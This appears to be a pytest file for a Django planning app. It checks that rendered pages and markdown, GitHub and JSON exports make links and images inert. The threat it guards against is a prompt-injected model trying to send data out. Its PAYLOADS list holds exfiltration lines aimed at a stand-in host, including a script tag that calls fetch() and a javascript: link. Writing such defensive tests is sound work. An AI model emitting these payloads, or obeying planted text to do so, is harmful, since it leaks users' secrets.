"""A model steered by text planted in a pack cannot smuggle data out through a link or an image:
the pages show such addresses as text and load no outside image, and every export is markdown
that stays inert wherever it is pasted (issue 21)."""

import json

import pytest
from markdown_it import MarkdownIt

from conversations import export_formats
from conversations.exports import safe_markdown
from conversations.models import Plan, PlanningSession, PlanningState
from conversations.rendering import render_markdown

STEAL = "https://evil.example/steal?d=SECRET"
PAYLOADS = [
    f"[click here]({STEAL})",
    "![status](https://evil.example/x.png?d=SECRET)",
    "<https://evil.example/steal?d=SECRET>",
    "[ref]: https://evil.example/steal?d=SECRET",
    "<img src='https://evil.example/x.png?d=SECRET'>",
    "<script>fetch('https://evil.example/?d=SECRET')</script>",
    "[run](javascript:fetch('https://evil.example/?d=SECRET'))",
    "[`code`](https://evil.example/steal?d=SECRET)",
    "``a` [x](https://evil.example/steal?d=SECRET)",
    "see www.evil.example/steal?d=SECRET now",
    "[proto](//evil.example/steal?d=SECRET)",
    # GitHub links a bare e-mail address and xmpp: as mailto:/xmpp: links.
    "mail SECRET@evil.example now",
    "xmpp:SECRET@evil.example",
]
_commonmark = MarkdownIt("commonmark", {"html": True})


def live_parts(markdown: str) -> list[str]:
    """What a markdown renderer that allows raw HTML would make live or fetch: links, images,
    HTML, and any outside address left as plain text (GitHub links bare ones)."""
    found = []
    for block in _commonmark.parse(markdown):
        if block.type == "html_block":
            found.append(block.content)
        for token in block.children or []:
            if token.type in ("link_open", "image", "html_inline"):
                found.append(f"{token.type}: {token.attrs or token.content}")
            if token.type == "text" and "evil.example" in token.content:
                found.append(f"bare address: {token.content}")
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_page_shows_an_outside_address_as_text_and_loads_no_image(payload):
    html = render_markdown(f"Done. {payload}", file_url_prefix="/codebases/1/file/")

    assert "<img" not in html and "<script" not in html
    assert 'href="https://' not in html and 'href="//' not in html
    assert 'href="javascript' not in html


def test_a_page_shows_where_an_outside_link_would_have_gone():
    html = render_markdown(f"[click here]({STEAL}) ![s](https://evil.example/x.png?d=SECRET)")

    assert '<span class="external-link">click here</span>' in html
    assert f'<code class="external-url">{STEAL}</code>' in html.replace("&amp;", "&")
    assert "[image: s]" in html and "https://evil.example/x.png?d=SECRET" in html


def test_links_within_the_site_stay_links():
    html = render_markdown("See `app/views.py:3` and [the top](#top).", file_url_prefix="/c/1/f/")

    assert '<a href="/c/1/f/app/views.py?hl=3-3#L3"' in html
    assert '<a href="#top"' in html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_markdown_leaves_nothing_live(payload):
    assert live_parts(safe_markdown(f"Done. {payload} and more")) == []


def test_safe_markdown_keeps_code_as_written_and_shows_the_address():
    text = "Use `List[int]` and `<T>` in `a.py:3`; see [docs](https://evil.example/d)."

    assert safe_markdown(text) == (
        "Use `List[int]` and `<T>` in `a.py:3`; see \\[docs\\](`https://evil.example/d`)."
    )


def test_safe_markdown_keeps_fenced_code_whole():
    text = "```\nx = [a](https://evil.example/d)\n```\n[b](https://evil.example/e)"

    safe = safe_markdown(text)

    assert safe.startswith("```\nx = [a](https://evil.example/d)\n```\n")
    assert live_parts(safe) == []


@pytest.fixture
def injected_plan(user, codebase):
    session = PlanningSession.objects.create(
        owner=user, codebase=codebase, title=f"Plan [x]({STEAL})", task=f"Fix it ![a]({STEAL})",
        agent_a_profile="fake", agent_b_profile="fake",
    )  # fmt: skip
    PlanningState.objects.create(session=session)
    structured = {
        "summary": " ".join(PAYLOADS),
        "decisions": PAYLOADS,
        "steps": [{"title": p, "detail": p, "files": ["todo/api.py"]} for p in PAYLOADS],
        "files": [{"path": "todo/api.py", "action": "modify", "reason": PAYLOADS[0]}],
        "testing": PAYLOADS,
        "risks": PAYLOADS,
    }
    markdown = "# Plan\n\n" + "\n\n".join(PAYLOADS) + "\n"
    return Plan.objects.create(session=session, version=1, markdown=markdown, structured=structured)


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["github", "handoff"])
def test_a_markdown_export_of_an_injected_plan_leaves_nothing_live(injected_plan, kind):
    text = export_formats.EXPORTS[kind].render(injected_plan)

    assert "evil.example" in text  # shown, not dropped
    assert live_parts(text) == []


@pytest.mark.django_db
def test_a_github_issue_without_a_summary_shows_the_title_inert(injected_plan):
    injected_plan.structured = {**injected_plan.structured, "summary": ""}
    injected_plan.save()

    text = export_formats.EXPORTS["github"].render(injected_plan)

    assert text.startswith("Plan \\[x\\](`https://evil.example/steal?d=SECRET`)")
    assert live_parts(text) == []


@pytest.mark.django_db
def test_the_json_exports_text_fields_are_inert_markdown_too(injected_plan):
    data = json.loads(export_formats.EXPORTS["json"].render(injected_plan))

    texts = [data["summary"], *data["decisions"], *data["testing"], *data["risks"]]
    texts += [s["title"] for s in data["steps"]] + [s["detail"] for s in data["steps"]]
    assert all(live_parts(t) == [] for t in texts), [t for t in texts if live_parts(t)]


@pytest.mark.django_db
def test_the_whole_plans_markdown_is_inert_once_made_safe(injected_plan):
    # What the plan download serves once it goes through safe_markdown (conversations.views).
    assert live_parts(injected_plan.markdown) != []
    assert live_parts(safe_markdown(injected_plan.markdown)) == []


@pytest.mark.django_db
def test_the_plan_download_serves_inert_markdown(client, injected_plan):
    from django.urls import reverse

    client.force_login(injected_plan.session.owner)
    response = client.get(reverse("conversations:plan_download", args=[injected_plan.session_id]))
    text = response.content.decode()
    assert response.status_code == 200 and "evil.example" in text
    assert live_parts(text) == []


def test_a_blockquote_keeps_its_marker_in_inert_markdown():
    text = "> **Checked by the app.** 1 step\n>> nested [x](https://evil.example)"
    safe = safe_markdown(text)
    assert safe.startswith("> **Checked by the app.** 1 step\n>> nested")
    assert live_parts(safe) == []
